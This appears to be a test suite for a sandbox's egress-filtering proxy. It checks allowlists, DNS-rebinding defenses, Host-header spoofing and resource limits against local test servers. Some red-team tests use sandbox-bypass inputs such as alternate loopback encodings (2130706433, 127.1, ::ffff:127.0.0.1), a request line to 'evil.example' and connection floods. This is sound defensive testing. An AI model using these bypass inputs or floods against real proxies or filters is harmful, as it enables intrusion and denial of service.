// The --network=allow proxy (src/network/proxy.ts): its CONNECT authority parser, the proxy itself
// on a unix socket with an injected resolver against real local servers, and the proxy under a
// flood of silent connections. No bwrap needed.
import http from 'node:http'
import net from 'node:net'
import path from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { buildPolicy, type EgressPolicy } from '../../src/network/policy.js'
import { listenOnLoopback } from '../helpers/servers.js'
import { parseAuthority, plainHttpRequest, type DeniedConnection, type Resolver } from '../../src/network/proxy.js'
import { startProxy } from '../../src/network/session.js'
import type { LazyServer } from '../../src/network/lazy-server.js'
import { suiteTempDir, tempDir } from '../helpers/temp.js'

const policy = (allowHosts: string[] = [], denyHosts: string[] = [], presets: string[] = []): EgressPolicy => buildPolicy({ allowHosts, denyHosts, presets })

describe('parseAuthority', () => {
  test.each<[string, { host: string; port: number } | undefined]>([
    ['example.com:443', { host: 'example.com', port: 443 }],
    ['[::1]:8080', { host: '::1', port: 8080 }],
    ['10.0.0.5:1', { host: '10.0.0.5', port: 1 }],
    ['example.com', undefined],
    ['example.com:', undefined],
    ['example.com:0', undefined],
    ['example.com:65536', undefined],
    ['example.com:http', undefined],
    ['::1:443', undefined],
    ['/path', undefined],
  ])('%j -> %j', (authority, expected) => {
    expect(parseAuthority(authority)).toEqual(expected)
  })
})

// ---------------------------------------------------------------- the proxy, for real

interface Served {
  method: string | undefined
  url: string | undefined
  headers: http.IncomingHttpHeaders
}

/**
 * An HTTP server on `host`, answering with its own name and what it received; a first line
 * `PING PATH` (not HTTP: what `tunnel` sends, since plain HTTP in a tunnel to a name is refused)
 * is answered `NAME: PING PATH`.
 */
async function localServer(name: string, host: string, port = 0): Promise<{ server: http.Server; port: number; served: Served[] }> {
  const served: Served[] = []
  const server = http.createServer((req, res) => {
    served.push({ method: req.method, url: req.url, headers: req.headers })
    res.writeHead(200, { 'content-type': 'text/plain' })
    res.end(`${name}: ${req.method} ${req.url} host=${req.headers.host}`)
  })
  server.on('clientError', (error: Error & { rawPacket?: Buffer }, socket: net.Socket) => {
    const ping = /^PING (\S+)\r\n/.exec(error.rawPacket?.toString('latin1') ?? '')
    if (ping === null) return void socket.destroy()
    served.push({ method: 'PING', url: ping[1], headers: {} })
    socket.end(`${name}: PING ${ping[1]}\n`)
  })
  await new Promise<void>((ok, fail) => {
    server.once('error', fail)
    server.listen(port, host, () => ok())
  })
  return { server, port: (server.address() as net.AddressInfo).port, served }
}

/** A raw client of the proxy's unix socket: write text, read up to the end of a head, read to close. */
function proxyClient(socketPath: string) {
  const socket = net.connect({ path: socketPath })
  socket.setEncoding('utf8')
  let buffer = ''
  let closed = false
  let wake: (() => void)[] = []
  const notify = (): void => {
    const waiting = wake
    wake = []
    for (const w of waiting) w()
  }
  socket.on('data', (chunk: string) => {
    buffer += chunk
    notify()
  })
  socket.on('close', () => {
    closed = true
    notify()
  })
  socket.on('error', () => {})
  const until = (ready: () => boolean): Promise<void> =>
    new Promise(done => {
      const check = (): void => (ready() ? done() : void wake.push(check))
      check()
    })
  return {
    write: (text: string): void => void socket.write(text),
    /** The response head (status line and headers), taken out of the buffer. */
    async head(): Promise<{ status: number; text: string }> {
      await until(() => buffer.includes('\r\n\r\n') || closed)
      const end = buffer.indexOf('\r\n\r\n')
      const text = end === -1 ? buffer : buffer.slice(0, end + 4)
      buffer = end === -1 ? '' : buffer.slice(end + 4)
      return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(text)?.[1] ?? 0), text }
    },
    /** Everything left once the proxy closes the connection. */
    async rest(): Promise<string> {
      await until(() => closed)
      return buffer
    },
    close: (): void => void socket.destroy(),
  }
}

/** A raw request that the proxy answers and closes (CONNECT refusals): the status and the body. */
async function ask(socketPath: string, request: string): Promise<{ status: number; head: string; body: string }> {
  const client = proxyClient(socketPath)
  client.write(request)
  const head = await client.head()
  return { status: head.status, head: head.text, body: await client.rest() }
}

/** A plain-HTTP proxy request (request target as given, absolute or not) with Node's own client. */
function plain(
  socketPath: string,
  target: string,
  options: { method?: string; headers?: Record<string, string>; body?: string } = {},
): Promise<{ status: number; body: string; headers: http.IncomingHttpHeaders }> {
  return new Promise((done, fail) => {
    const req = http.request({ socketPath, path: target, method: options.method ?? 'GET', headers: options.headers, agent: false, setHost: false }, res => {
      let body = ''
      res.setEncoding('utf8')
      res.on('data', (chunk: string) => (body += chunk))
      res.on('end', () => done({ status: res.statusCode ?? 0, body, headers: res.headers }))
      res.on('error', fail)
    })
    req.on('error', fail)
    req.end(options.body)
  })
}

/** CONNECT, then (when it is admitted) a `PING PATH` line through the tunnel (localServer answers it). */
async function tunnel(socketPath: string, authority: string, pathAndQuery = '/through'): Promise<{ status: number; head: string; body: string; inner?: string }> {
  const client = proxyClient(socketPath)
  client.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`)
  const head = await client.head()
  if (head.status !== 200) return { status: head.status, head: head.text, body: await client.rest() }
  client.write(`PING ${pathAndQuery}\r\n`)
  const inner = await client.rest()
  return { status: head.status, head: head.text, body: '', inner }
}

describe('startProxy (injected resolver, real local servers)', () => {
  const dir = suiteTempDir('cb-egress-')
  let local: Awaited<ReturnType<typeof localServer>>
  let proxy: LazyServer | undefined
  const denied: DeniedConnection[] = []
  const lookups: string[] = []

  beforeAll(async () => {
    local = await localServer('local', '127.0.0.1')
  })
  afterAll(async () => {
    await new Promise(done => local.server.close(done))
  })
  afterEach(async () => {
    await proxy?.close()
    proxy = undefined
    denied.length = 0
    lookups.length = 0
    local.served.length = 0
  })

  let count = 0
  const start = async (p: EgressPolicy, answers: Record<string, string[] | Error | (() => string[])>, connectTimeoutMs?: number): Promise<string> => {
    const socketPath = path.join(dir(), `proxy-${++count}.sock`)
    const resolve: Resolver = host => {
      lookups.push(host)
      const answer = answers[host]
      if (answer === undefined) return Promise.reject(Object.assign(new Error(`getaddrinfo ENOTFOUND ${host}`), { code: 'ENOTFOUND' }))
      if (answer instanceof Error) return Promise.reject(answer)
      return Promise.resolve(typeof answer === 'function' ? answer() : answer)
    }
    proxy = await startProxy({ socketPath, policy: p, onDenied: d => void denied.push(d), resolve, ...(connectTimeoutMs === undefined ? {} : { connectTimeoutMs }) })
    return socketPath
  }

  test('a name admitted by a wildcard that resolves to loopback is refused (403), logged once, and never reaches the server', async () => {
    const socket = await start(policy(['*.example.test:*']), { 'svc.example.test': ['127.0.0.1'] })
    const target = `svc.example.test:${local.port}`
    const expected = `claudebox: ${target} is blocked: resolves to 127.0.0.1, a loopback, private, link-local or this host's own address that is not listed (allow it with --allow-host)`

    const viaConnect = await tunnel(socket, target)
    expect(viaConnect.status).toBe(403)
    expect(viaConnect.body).toBe(`${expected}\n`)

    const viaPlain = await plain(socket, `http://${target}/x`, { headers: { host: target } })
    expect(viaPlain.status).toBe(403)
    expect(viaPlain.body).toBe(`${expected}\n`)

    expect(denied).toHaveLength(2)
    for (const d of denied) {
      expect(d).toMatchObject({ host: 'svc.example.test', port: local.port })
      expect(d.reason).toMatch(/^resolves to 127\.0\.0\.1, a loopback/)
      expect(d.time).toBeInstanceOf(Date)
    }
    expect(local.served).toEqual([])
  })

  test('the same name listed exactly is admitted: CONNECT tunnel and plain HTTP reach the local server', async () => {
    const target = `svc.example.test:${local.port}`
    const socket = await start(policy([target, '*.example.test:*']), { 'svc.example.test': ['127.0.0.1'] })

    const viaConnect = await tunnel(socket, target, '/hello?x=1')
    expect(viaConnect.head).toMatch(/^HTTP\/1\.1 200 Connection Established\r\n\r\n$/)
    expect(viaConnect.inner).toBe('local: PING /hello?x=1\n')

    const viaPlain = await plain(socket, `http://${target}/path?q=1`, {
      headers: { host: target, 'proxy-authorization': 'Basic c2VjcmV0', 'proxy-connection': 'keep-alive', 'x-test': 'kept' },
    })
    expect(viaPlain.status).toBe(200)
    expect(viaPlain.body).toBe(`local: GET /path?q=1 host=${target}`)
    // The upstream gets the origin form, the client's own headers, and no proxy headers.
    const received = local.served[1] as Served
    expect(received.url).toBe('/path?q=1')
    expect(received.headers['x-test']).toBe('kept')
    expect(received.headers).not.toHaveProperty('proxy-authorization')
    expect(received.headers).not.toHaveProperty('proxy-connection')

    expect(denied).toEqual([])
    expect(lookups).toEqual(['svc.example.test', 'svc.example.test'])
  })

  test('plain HTTP: the Host header sent upstream is the checked host, not one the client made up', async () => {
    const target = `svc.example.test:${local.port}`
    const socket = await start(policy([target]), { 'svc.example.test': ['127.0.0.1'] })
    const result = await plain(socket, `http://${target}/fronted`, { headers: { host: 'other-site.example' } })
    expect(result.status).toBe(200)
    expect(result.body).toBe(`local: GET /fronted host=${target}`)
  })

  test('plain HTTP carries a request body and the method', async () => {
    const target = `svc.example.test:${local.port}`
    const socket = await start(policy([target]), { 'svc.example.test': ['127.0.0.1'] })
    const result = await plain(socket, `http://${target}/submit`, { method: 'POST', headers: { host: target, 'content-length': '5' }, body: 'hello' })
    expect(result.status).toBe(200)
    expect(result.body).toBe(`local: POST /submit host=${target}`)
  })

  test('DNS rebinding: one lookup per connection, and the proxy connects to the address it checked', async () => {
    // svc.test is not a name the system can resolve (.test is reserved, RFC 6761), and the
    // resolver's second answer is an unreachable TEST-NET address: a success with one lookup
    // shows the proxy connected to the first, checked answer, not to a name it looked up again.
    let calls = 0
    const answer = (): string[] => (++calls === 1 ? ['127.0.0.1'] : ['192.0.2.1'])
    const target = `svc.test:${local.port}`
    const socket = await start(policy([target]), { 'svc.test': answer }, 500)

    const first = await tunnel(socket, target)
    expect(first.status).toBe(200)
    expect(first.inner).toBe('local: PING /through\n')
    expect(calls).toBe(1)

    // The next connection gets its own lookup (and here, an address that does not answer).
    const second = await tunnel(socket, target)
    expect(calls).toBe(2)
    expect(second.status).toBe(502)
    expect(second.body).toMatch(new RegExp(`^claudebox: cannot connect to ${target}: `))
    expect(local.served).toHaveLength(1)
    expect(denied).toEqual([])
  })

  test('only the permitted addresses of an answer are tried', async () => {
    // The wildcard admits the name; of its two loopback addresses only the listed one may be used.
    // All of 127.0.0.0/8 is loopback on Linux: 127.0.0.2 is always there to listen on.
    const other = await localServer('other', '127.0.0.2', local.port)
    try {
      const target = `mixed.example.test:${local.port}`
      const socket = await start(policy([`*.example.test:${local.port}`, `127.0.0.1:${local.port}`]), { 'mixed.example.test': ['127.0.0.2', '127.0.0.1'] })
      const result = await tunnel(socket, target)
      expect(result.status).toBe(200)
      expect(result.inner).toBe('local: PING /through\n')
      expect(other.served).toEqual([])
    } finally {
      await new Promise(done => other.server.close(done))
    }
  })

  test('an address literal in the deny list blocks a name that resolves to it', async () => {
    const target = `svc.test:${local.port}`
    const socket = await start(policy([target], ['127.0.0.1']), { 'svc.test': ['127.0.0.1'] })
    const result = await tunnel(socket, target)
    expect(result.status).toBe(403)
    expect(denied).toMatchObject([{ host: 'svc.test', port: local.port }])
    expect(denied[0]?.reason).toMatch(/^resolves to 127\.0\.0\.1/)
    expect(local.served).toEqual([])
  })

  test('IP literals are checked without a lookup, however they are written', async () => {
    const socket = await start(policy(['*:*']), {})
    for (const host of ['127.0.0.1', '2130706433', '127.1', '[::ffff:127.0.0.1]']) {
      const result = await tunnel(socket, `${host}:${local.port}`)
      expect(result.status, host).toBe(403)
    }
    expect(lookups).toEqual([])
    expect(denied.map(d => d.host)).toEqual(['127.0.0.1', '2130706433', '127.1', '::ffff:127.0.0.1'])
    expect(local.served).toEqual([])
  })

  test('a listed IP literal is admitted', async () => {
    const socket = await start(policy([`127.0.0.1:${local.port}`]), {})
    const result = await tunnel(socket, `2130706433:${local.port}`)
    expect(result.status).toBe(200)
    expect(result.inner).toBe('local: PING /through\n')
    expect(lookups).toEqual([])
  })

  test('a destination not in the allowlist is refused before any lookup', async () => {
    const socket = await start(policy(), { 'elsewhere.test': ['127.0.0.1'] })
    const result = await tunnel(socket, 'elsewhere.test:443')
    expect(result.status).toBe(403)
    expect(result.body).toBe('claudebox: elsewhere.test:443 is blocked: not in the allowlist (allow it with --allow-host)\n')
    expect(lookups).toEqual([])
    expect(denied).toMatchObject([{ host: 'elsewhere.test', port: 443, reason: 'not in the allowlist' }])
  })

  test('a resolver failure is 502 and not counted as denied', async () => {
    const socket = await start(policy(['*.example.test:*']), { 'down.example.test': Object.assign(new Error('queryA ESERVFAIL down.example.test'), { code: 'ESERVFAIL' }) })
    const viaConnect = await tunnel(socket, 'down.example.test:443')
    expect(viaConnect.status).toBe(502)
    expect(viaConnect.body).toBe('claudebox: cannot resolve down.example.test: ESERVFAIL\n')
    const viaPlain = await plain(socket, 'http://nx.example.test/', { headers: { host: 'nx.example.test' } })
    expect(viaPlain.status).toBe(502)
    expect(viaPlain.body).toBe('claudebox: cannot resolve nx.example.test: ENOTFOUND\n')
    expect(denied).toEqual([])
  })

  test('an upstream that refuses the connection is 502, not denied', async () => {
    const closed = await localServer('closed', '127.0.0.1')
    await new Promise(done => closed.server.close(done))
    const target = `svc.test:${closed.port}`
    const socket = await start(policy([target]), { 'svc.test': ['127.0.0.1'] })
    const result = await tunnel(socket, target)
    expect(result.status).toBe(502)
    expect(result.body).toMatch(/ECONNREFUSED/)
    expect(denied).toEqual([])
  })

  test('a CONNECT without a port is 400', async () => {
    const socket = await start(policy(['*:*']), {})
    const result = await ask(socket, 'CONNECT example.test HTTP/1.1\r\nHost: example.test\r\n\r\n')
    expect(result.status).toBe(400)
    expect(result.body).toBe('claudebox: CONNECT needs host:port\n')
    expect(lookups).toEqual([])
  })

  test('a request that is not an absolute http:// URL is 400', async () => {
    const socket = await start(policy(['*:*']), {})
    const origin = await plain(socket, '/', { headers: { host: `127.0.0.1:${local.port}` } })
    expect(origin.status).toBe(400)
    expect(origin.body).toBe("claudebox's proxy takes CONNECT or absolute http:// URLs\n")
    const https = await plain(socket, 'https://example.test/', { headers: { host: 'example.test' } })
    expect(https.status).toBe(400)
    expect(local.served).toEqual([])
    expect(lookups).toEqual([])
  })

  test('a tunnel keeps a half-close: the client ends its side, the server answers after that, the answer arrives (red team)', async () => {
    const server = net.createServer({ allowHalfOpen: true }, c => {
      let got = ''
      c.on('data', d => (got += String(d)))
      c.on('end', () => c.end(`got:${got}`))
    })
    const port = await listenOnLoopback(server)
    const socket = await start(policy([`127.0.0.1:${port}`]), {})
    const client = net.connect({ path: socket, allowHalfOpen: true })
    let reply = ''
    client.on('data', d => (reply += String(d)))
    const closed = new Promise(resolve => client.once('close', resolve))
    client.write(`CONNECT 127.0.0.1:${port} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`)
    await until(() => reply.includes('\r\n\r\n'), 5000)
    client.end('abc')
    await closed
    expect(reply).toMatch(/^HTTP\/1\.1 200[^]*\r\n\r\ngot:abc$/)
  })

  test('close() ends open tunnels', async () => {
    const target = `svc.test:${local.port}`
    const socket = await start(policy([target]), { 'svc.test': ['127.0.0.1'] })
    const client = proxyClient(socket)
    client.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`)
    expect((await client.head()).status).toBe(200)
    await proxy?.close()
    proxy = undefined
    await client.rest() // resolves only once the proxy closed the connection
  })
})

// ---------------------------------------------------------------- the proxy under load

const until = async (condition: () => boolean, ms: number): Promise<boolean> => {
  for (const end = Date.now() + ms; Date.now() < end; ) {
    if (condition()) return true
    await new Promise(resolve => setTimeout(resolve, 20))
  }
  return condition()
}

// The proxy under a flood of silent connections: each is closed after the idle timeout, beyond the
// cap the oldest makes room, and a real request (Claude's next API call) still gets through.
describe('startProxy under load', () => {
  test('silent connections are capped and timed out; a CONNECT still gets through', async () => {
    const dir = tempDir('cb-flood-')
    const upstream = net.createServer(socket => socket.end('served\n'))
    await new Promise<void>(done => upstream.listen(0, '127.0.0.1', done))
    const port = (upstream.address() as net.AddressInfo).port
    const socketPath = path.join(dir, 'proxy.sock')
    const proxy = await startProxy({
      socketPath,
      policy: buildPolicy({ allowHosts: [`127.0.0.1:${port}`], denyHosts: [], presets: [] }),
      onDenied: () => {},
      idleTimeoutMs: 400,
      maxWaiting: 20,
    })
    const silent: net.Socket[] = []
    let closed = 0
    try {
      for (let i = 0; i < 200; i++) {
        const socket = net.connect(socketPath)
        socket.on('error', () => {})
        socket.on('close', () => closed++)
        silent.push(socket)
      }
      // Beyond the cap the oldest were closed at once: at most 20 silent ones remain open.
      expect(await until(() => closed >= 180, 2_000)).toBe(true)
      const client = net.connect(socketPath)
      let reply = ''
      client.on('data', (d: Buffer) => (reply += d.toString('latin1')))
      client.write(`CONNECT 127.0.0.1:${port} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`)
      expect(await until(() => reply.includes('served'), 2_000)).toBe(true)
      expect(reply).toMatch(/^HTTP\/1\.1 200 /)
      client.destroy()
      // ... and after the idle timeout none of the silent ones is left.
      expect(await until(() => closed === 200, 2_000)).toBe(true)
    } finally {
      for (const socket of silent) socket.destroy()
      await proxy.close()
      upstream.close()
    }
  })

  test('plain HTTP requests pipelined on one connection: at most 8 under way, a ninth closes the connection, and their upstream connections end with it (red team, round 59: 20,000 upstream connections)', async () => {
    const dir = tempDir('cb-pipeline-')
    const upstreamSockets: net.Socket[] = []
    let open = 0
    const upstream = net.createServer(socket => {
      upstreamSockets.push(socket)
      open++
      socket.on('close', () => open--)
      socket.on('error', () => {})
      socket.resume() // reads the request, never answers
    })
    await new Promise<void>(done => upstream.listen(0, '127.0.0.1', done))
    const port = (upstream.address() as net.AddressInfo).port
    const socketPath = path.join(dir, 'proxy.sock')
    const proxy = await startProxy({ socketPath, policy: buildPolicy({ allowHosts: [`127.0.0.1:${port}`], denyHosts: [], presets: [] }), onDenied: () => {} })
    const warnings: string[] = []
    const note = (warning: Error): void => void warnings.push(warning.name)
    process.on('warning', note)
    try {
      const client = net.connect(socketPath)
      let closed = false
      client.on('error', () => {})
      client.on('close', () => (closed = true))
      const request = (i: number): string => `GET http://127.0.0.1:${port}/hold${i} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`
      client.write(Array.from({ length: 8 }, (_, i) => request(i)).join(''))
      expect(await until(() => upstreamSockets.length === 8, 2_000)).toBe(true)
      client.write(Array.from({ length: 100 }, (_, i) => request(8 + i)).join(''))
      expect(await until(() => closed, 2_000)).toBe(true)
      expect(await until(() => open === 0, 2_000)).toBe(true)
      expect(upstreamSockets.length).toBeLessThanOrEqual(9)
      expect(warnings).toEqual([])
    } finally {
      process.off('warning', note)
      await proxy.close()
      upstream.close()
    }
  })

  test('at most so many connections to hosts at once, for all client connections; beyond, 502 (red team, round 60: ~9,200 descriptors within the other limits)', async () => {
    const dir = tempDir('cb-upstream-')
    let accepted = 0
    const upstream = net.createServer(socket => {
      accepted++
      socket.on('error', () => {})
      socket.resume() // never answers
    })
    await new Promise<void>(done => upstream.listen(0, '127.0.0.1', done))
    const port = (upstream.address() as net.AddressInfo).port
    const socketPath = path.join(dir, 'proxy.sock')
    const proxy = await startProxy({ socketPath, policy: buildPolicy({ allowHosts: [`127.0.0.1:${port}`], denyHosts: [], presets: [] }), onDenied: () => {}, maxUpstream: 3 })
    const clients: net.Socket[] = []
    try {
      const replies: string[] = []
      for (let i = 0; i < 5; i++) {
        const client = net.connect(socketPath)
        client.on('error', () => {})
        replies.push('')
        client.on('data', (d: Buffer) => (replies[i] += d.toString('latin1')))
        client.write(`GET http://127.0.0.1:${port}/${i} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`)
        clients.push(client)
        expect(await until(() => (i < 3 ? accepted === i + 1 : replies[i]?.startsWith('HTTP/1.1 502') === true), 2_000)).toBe(true)
      }
      expect(accepted).toBe(3)
      // One ends: its place is free again.
      clients[0]?.destroy()
      await new Promise(r => setTimeout(r, 100))
      const client = net.connect(socketPath)
      client.on('error', () => {})
      clients.push(client)
      client.write(`GET http://127.0.0.1:${port}/again HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`)
      expect(await until(() => accepted === 4, 2_000)).toBe(true)
    } finally {
      for (const client of clients) client.destroy()
      await proxy.close()
      upstream.close()
    }
  })

  test('after a first request, a second one that never finishes its headers is closed (408) after the headers timeout', async () => {
    const dir = tempDir('cb-slow-')
    const upstream = http.createServer((_req, res) => res.end('served\n'))
    await new Promise<void>(done => upstream.listen(0, '127.0.0.1', done))
    const port = (upstream.address() as net.AddressInfo).port
    const socketPath = path.join(dir, 'proxy.sock')
    const proxy = await startProxy({ socketPath, policy: buildPolicy({ allowHosts: [`127.0.0.1:${port}`], denyHosts: [], presets: [] }), onDenied: () => {}, headersTimeoutMs: 300 })
    const client = net.connect(socketPath)
    try {
      let reply = ''
      client.on('data', (d: Buffer) => (reply += d.toString('latin1')))
      client.write(`GET http://127.0.0.1:${port}/ HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`)
      expect(await until(() => reply.includes('served'), 2_000)).toBe(true)
      // No longer waiting for a first request, it is out of the idle limit's reach: the timeout holds it.
      client.write(`GET http://127.0.0.1:${port}/ HTTP/1.1\r\nX-A: `)
      let closed = false
      client.on('close', () => (closed = true))
      const trickle = setInterval(() => client.writable && client.write('a'), 100)
      expect(await until(() => closed, 3_000)).toBe(true)
      clearInterval(trickle)
      expect(reply).toMatch(/HTTP\/1\.1 408 /)
    } finally {
      client.destroy()
      await proxy.close()
      upstream.close()
    }
  })
})

// ---------------------------------------------------------------- plain HTTP's kept upstream connections

describe('plain HTTP keeps its upstream connection per client connection', () => {
  /** A raw HTTP server that counts connections, and can drop the second request of a connection unanswered. */
  async function countingServer(dropSecond = false): Promise<{ port: number; connections: () => number; open: () => number; seen: string[]; close: () => void }> {
    const sockets = new Set<net.Socket>()
    const seen: string[] = []
    let connections = 0
    const server = net.createServer(socket => {
      connections++
      sockets.add(socket)
      socket.on('close', () => sockets.delete(socket))
      let requests = 0
      let buffer = ''
      socket.on('data', (chunk: Buffer) => {
        buffer += chunk.toString('latin1')
        for (let end = buffer.indexOf('\r\n\r\n'); end !== -1; end = buffer.indexOf('\r\n\r\n')) {
          const head = buffer.slice(0, end)
          buffer = buffer.slice(end + 4)
          const length = Number(/content-length: (\d+)/i.exec(head)?.[1] ?? 0)
          buffer = buffer.slice(length)
          seen.push(head.split(' ').slice(0, 2).join(' '))
          if (++requests === 2 && dropSecond) return void socket.destroy()
          const body = `#${connections} ${head.split(' ')[1]}`
          socket.write(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\nConnection: keep-alive\r\n\r\n${body}`)
        }
      })
    })
    await new Promise<void>(done => server.listen(0, '127.0.0.1', done))
    return {
      port: (server.address() as net.AddressInfo).port,
      connections: () => connections,
      open: () => sockets.size,
      seen,
      close: () => {
        for (const socket of sockets) socket.destroy()
        server.close()
      },
    }
  }

  /** One client connection to the proxy (an agent with a single kept socket). */
  function client(socketPath: string): { get: (url: string, body?: string) => Promise<{ status: number; body: string }>; close: () => void } {
    const agent = new http.Agent({ keepAlive: true, maxSockets: 1 })
    ;(agent as unknown as { createConnection: () => net.Socket }).createConnection = () => net.connect(socketPath)
    const get = (url: string, body?: string): Promise<{ status: number; body: string }> =>
      new Promise((done, fail) => {
        const req = http.request({ agent, path: url, method: body === undefined ? 'GET' : 'POST', headers: { host: new URL(url).host }, setHost: false }, res => {
          let text = ''
          res.on('data', (chunk: Buffer) => (text += chunk.toString()))
          res.on('end', () => done({ status: res.statusCode ?? 0, body: text }))
        })
        req.on('error', fail)
        req.end(body)
      })
    return { get, close: () => agent.destroy() }
  }

  async function withProxy(allow: string[], answers: Record<string, string[]>, run: (socketPath: string, denied: DeniedConnection[]) => Promise<void>): Promise<void> {
    const socketPath = path.join(tempDir('cb-keep-'), 'proxy.sock')
    const denied: DeniedConnection[] = []
    const resolve: Resolver = host => (answers[host] ? Promise.resolve(answers[host]) : Promise.reject(new Error(`ENOTFOUND ${host}`)))
    const proxy = await startProxy({ socketPath, policy: policy(allow), onDenied: d => void denied.push(d), resolve })
    try {
      await run(socketPath, denied)
    } finally {
      await proxy.close()
    }
  }

  test('requests to the same host share one; another host, a body, or another client connection get a new one', async () => {
    const server = await countingServer()
    const [a, b] = [`a.test:${server.port}`, `b.test:${server.port}`]
    await withProxy([a, b], { 'a.test': ['127.0.0.1'], 'b.test': ['127.0.0.1'] }, async socketPath => {
      const one = client(socketPath)
      expect((await one.get(`http://${a}/1`)).body).toBe('#1 /1')
      expect((await one.get(`http://${a}/2`)).body).toBe('#1 /2')
      expect((await one.get(`http://${a}/3`)).body).toBe('#1 /3')
      expect(server.connections()).toBe(1)
      // Another host: a connection of its own, and the one kept for a.test is closed.
      expect((await one.get(`http://${b}/4`)).body).toBe('#2 /4')
      expect(await until(() => server.open() === 1, 2_000)).toBe(true)
      // A request with a body never takes a kept connection.
      expect((await one.get(`http://${b}/5`, 'body')).body).toBe('#3 /5')
      const two = client(socketPath)
      expect((await two.get(`http://${b}/6`)).body).toBe('#4 /6')
      // A client that goes away takes its kept connection with it.
      one.close()
      two.close()
      expect(await until(() => server.open() === 0, 2_000)).toBe(true)
    })
    server.close()
  })

  test('every request is admitted again: a refused host on the same client connection is 403 and reaches nothing', async () => {
    const server = await countingServer()
    const a = `a.test:${server.port}`
    await withProxy([a], { 'a.test': ['127.0.0.1'], 'c.test': ['127.0.0.1'] }, async (socketPath, denied) => {
      const one = client(socketPath)
      expect((await one.get(`http://${a}/1`)).status).toBe(200)
      expect((await one.get(`http://c.test:${server.port}/2`)).status).toBe(403)
      expect(denied.map(d => d.host)).toEqual(['c.test'])
      one.close()
    })
    expect(server.connections()).toBe(1)
    server.close()
  })

  test('a POST without a body never takes a kept connection, so it is never sent twice', async () => {
    const server = await countingServer(true)
    const a = `a.test:${server.port}`
    await withProxy([a], { 'a.test': ['127.0.0.1'] }, async socketPath => {
      const one = client(socketPath)
      expect(await one.get(`http://${a}/1`)).toEqual({ status: 200, body: '#1 /1' })
      // An empty POST on the same client connection: a new upstream connection, answered there.
      expect(await one.get(`http://${a}/transfer`, '')).toEqual({ status: 200, body: '#2 /transfer' })
      one.close()
    })
    expect(server.seen).toEqual(['GET /1', 'POST /transfer'])
    server.close()
  })

  test('a kept connection the server dropped: the request is sent again on a new one and answered', async () => {
    const server = await countingServer(true)
    const a = `a.test:${server.port}`
    await withProxy([a], { 'a.test': ['127.0.0.1'] }, async socketPath => {
      const one = client(socketPath)
      expect(await one.get(`http://${a}/1`)).toEqual({ status: 200, body: '#1 /1' })
      expect(await one.get(`http://${a}/2`)).toEqual({ status: 200, body: '#2 /2' })
      one.close()
    })
    server.close()
  })
})

// ---------------------------------------------------------------- the Host check holds (red team, round 89)

describe('plainHttpRequest: the first bytes of a tunnel that are an HTTP request line', () => {
  test.each<[string, boolean | 'need-more']>([
    ['GET / HTTP/1.1\r\nHost: x\r\n\r\n', true],
    ['POST http://evil.example/ HTTP/1.0\r\n', true],
    ['\r\n\r\nGET / HTTP/1.1\r\n', true],
    ['M-SEARCH * HTTP/1.1\r\n', true],
    ['GET /\thttp/1.1\n', true],
    ['PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', true],
    ['GET / HTTP/1.1', true],
    ['SSH-2.0-OpenSSH_9.6\r\n', false],
    ['PING /x\r\n', false],
    ['*1\r\n$4\r\nPING\r\n', false],
    ['\x00\x00\x00\x08\x04\xd2\x16\x2f', false],
    ['{"jsonrpc":"2.0"}', false],
    ['', 'need-more'],
    ['\r\n', 'need-more'],
    ['GE', 'need-more'],
    ['GET /long/path', 'need-more'],
    ['SSH-2.0-Open', 'need-more'],
  ])('%j -> %j', (text, expected) => {
    expect(plainHttpRequest(Buffer.from(text, 'latin1'))).toBe(expected)
  })

  test('a first line longer than the limit that starts like one is taken for one; other bytes are not', () => {
    expect(plainHttpRequest(Buffer.from(`GET /${'a'.repeat(70_000)}`))).toBe(true)
    expect(plainHttpRequest(Buffer.from('a'.repeat(70_000)))).toBe(false)
  })
})

describe('the Host check of plain HTTP holds through Upgrade and CONNECT (red team, round 89)', () => {
  /** What a raw server received: each request line with its Host, or the raw bytes of a non-HTTP connection. */
  interface Seen {
    requests: string[]
    raw: string[]
  }

  /**
   * A front end on 127.0.0.1 (a CDN address) that answers each request by its Host: `answer` says
   * how (200 keep-alive, or 101 and then an echo); a connection whose first bytes are not HTTP gets
   * `echo:` and its line back.
   */
  async function frontEnd(answer: '200' | '101'): Promise<{ port: number; seen: Seen; close: () => void }> {
    const seen: Seen = { requests: [], raw: [] }
    const sockets = new Set<net.Socket>()
    const server = net.createServer(socket => {
      sockets.add(socket)
      socket.on('close', () => sockets.delete(socket))
      socket.on('error', () => {})
      let buffer = ''
      let upgraded = false
      socket.on('data', (chunk: Buffer) => {
        buffer += chunk.toString('latin1')
        if (upgraded || !/^[A-Z]+ \S+ HTTP\/1\.1\r\n/.test(buffer)) {
          if (!upgraded && !/^[A-Z]*$/.test(buffer)) seen.raw.push(buffer)
          const line = buffer
          buffer = ''
          if (line !== '') socket.write(`echo:${line}`)
          return
        }
        for (let end = buffer.indexOf('\r\n\r\n'); end !== -1 && !upgraded; end = buffer.indexOf('\r\n\r\n')) {
          const head = buffer.slice(0, end)
          buffer = buffer.slice(end + 4)
          const host = /\r\nhost: ([^\r]*)/i.exec(head)?.[1]
          seen.requests.push(`${head.split(' ').slice(0, 2).join(' ')} host=${host}`)
          if (answer === '101' && /\r\nupgrade:/i.test(head)) {
            upgraded = true
            socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\nhello from the server')
          } else {
            const body = `site ${host}`
            socket.write(`HTTP/1.1 200 OK\r\nContent-Length: ${body.length}\r\nConnection: keep-alive\r\n\r\n${body}`)
          }
        }
      })
    })
    const port = await listenOnLoopback(server)
    return {
      port,
      seen,
      close: () => {
        for (const socket of sockets) socket.destroy()
        server.close()
      },
    }
  }

